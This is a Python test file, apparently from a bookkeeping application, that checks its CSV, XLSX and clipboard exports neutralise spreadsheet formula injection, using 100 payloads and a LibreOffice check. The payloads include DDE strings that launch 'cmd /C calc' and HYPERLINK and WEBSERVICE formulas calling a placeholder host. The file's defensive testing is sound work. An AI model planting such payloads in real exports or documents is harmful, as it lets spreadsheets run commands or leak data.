"""A hundred texts that would steer a spreadsheet leave as text, in a file and on the clipboard (figure B4)."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
import xml.etree.ElementTree as ET
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from PySide6.QtGui import QGuiApplication

from core.console.english_writing import EnglishWriting
from core.domain.outcome import Message
from core.rows.report import CellKind, Report, ReportColumn, ReportTable
from core.rows.report_csv import as_csv
from core.rows.report_xlsx import as_xlsx
from core.rows.spreadsheet_text import safe, safe_shown
from gui.widgets.lists.row_menu import copy_row

_FORMULAS = (
    "1+1", "A1", "SUM(A1:A9)", 'HYPERLINK("http://x/?"&A1;"Balance")', "cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"x")',
    'WEBSERVICE("http://x")', "IMPORTXML(A1;A2)", "1;2", "@SUM(1)", "-1", "+1", "2+5+cmd|' /C calc'!A0", "Müller", "5%",
    "'x'", '"x"', "(1)", "1e3", "10/2",
)  # fmt: skip
PAYLOADS = tuple(f"{sign}{formula}" for sign in ("=", "+", "-", "@", " =") for formula in _FORMULAS)
FIGURES = ("-5.00", "+5.00", "-$5.00", "+€5.00", "- 5.00 USD", "-1,234.50", "-1.234,50 €", "-5%", "+CHF 5.00", "-3")
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
Convert = Callable[[str, bytes, str], list[tuple[str, str | None]]]


def report() -> Report:
    columns = (
        ReportColumn("reason", "activity.clerk", CellKind.TEXT),
        ReportColumn("net", "activity.net", CellKind.MONEY),
    )
    rows = tuple((payload, -1234) for payload in PAYLOADS)
    return Report(
        "x", Message("activity.title"), Message("activity.title"), "", "", (), (ReportTable("USD", columns, rows),)
    )


def copied(*rows: tuple[str, ...]) -> str:
    """Each row as a clerk copies it."""
    texts = []
    for row in rows:
        copy_row(row)
        texts.append(QGuiApplication.clipboard().text())
    return "\n".join(texts) + "\n"


def test_a_hundred_payloads_are_text_in_a_file() -> None:
    assert len(PAYLOADS) == 100
    written = list(csv.reader(io.StringIO(as_csv(report()).decode("utf-8-sig"), newline="")))[1:]
    assert [line[-2] for line in written] == [f"'{payload}" for payload in PAYLOADS]
    assert {line[-1] for line in written} == {"-12.34"}


def test_a_hundred_payloads_are_text_on_the_clipboard_and_figures_stay_figures(qapp: object) -> None:
    harmless = {payload for payload in PAYLOADS if safe_shown(payload) == payload}
    assert harmless == {"+5%", "-5%"}, "a figure and no more"
    assert copied(*((payload, "x") for payload in PAYLOADS if payload not in harmless)) == "".join(
        f"'{payload}\tx\n" for payload in PAYLOADS if payload not in harmless
    )
    assert copied(FIGURES) == "\t".join(FIGURES) + "\n"


def test_only_what_steers_is_changed() -> None:
    for plain in ("", "Müller", "5.00", "a=1", "1+1", "'=x", "٣"):
        assert safe(plain) == safe_shown(plain) == plain
    assert safe("＝1+1") == "'＝1+1"


@pytest.fixture
def convert(tmp_path: Path) -> Convert:
    """Returns the cells of the first sheet as LibreOffice reads the file, each with the formula that it found."""
    office = shutil.which("soffice")
    if office is None:
        pytest.skip("soffice is not installed: apt-get install libreoffice-calc; no spreadsheet read a file here")

    def run(name: str, content: bytes, form: str) -> list[tuple[str, str | None]]:
        (tmp_path / name).write_bytes(content)
        home = f"-env:UserInstallation=file://{tmp_path / 'office'}"
        read = (f"--infilter={form}",) if form else ()
        command = (office, home, "--headless", *read, "--convert-to", "xlsx:Calc MS Excel 2007 XML")
        where = ("--outdir", str(tmp_path / "out"), str(tmp_path / name))
        subprocess.run([*command, *where], check=True, capture_output=True, timeout=180)
        return _cells((tmp_path / "out" / name).with_suffix(".xlsx"))

    return run


def _cells(path: Path) -> list[tuple[str, str | None]]:
    with zipfile.ZipFile(path) as packed:
        texts = ["".join(part.itertext()) for part in ET.fromstring(packed.read("xl/sharedStrings.xml"))]
        sheet = ET.fromstring(packed.read("xl/worksheets/sheet1.xml"))
    found = []
    for cell in sheet.iter(f"{MAIN}c"):
        value = cell.findtext(f"{MAIN}v") or ""
        found.append((texts[int(value)] if cell.get("t") == "s" else value, cell.findtext(f"{MAIN}f")))
    return found


@pytest.mark.slow
def test_libreoffice_calculates_none_of_them(convert: Convert, qapp: object) -> None:
    """It does calculate what was not made safe, so that this test can fail."""
    tabs = "CSV:9,34,76,1"
    careless = convert("careless.tsv", "\n".join(PAYLOADS).encode(), tabs)
    assert len([cell for cell, formula in careless if formula is not None]) >= 20
    clipboard = convert("copied.tsv", copied(*((payload, "-5.00") for payload in PAYLOADS)).encode(), tabs)
    for cells in (
        clipboard,
        convert("report.csv", as_csv(report()), ""),
        convert("book.xlsx", as_xlsx(report(), EnglishWriting()), ""),
    ):
        assert [cell for cell, formula in cells if formula is not None] == []
        assert len([cell for cell, _ in cells if cell.lstrip("' ")[:1] in tuple("=+-@")]) >= 98
    assert [cell for cell, _ in clipboard].count("-5") == 100, "a figure is a number there"
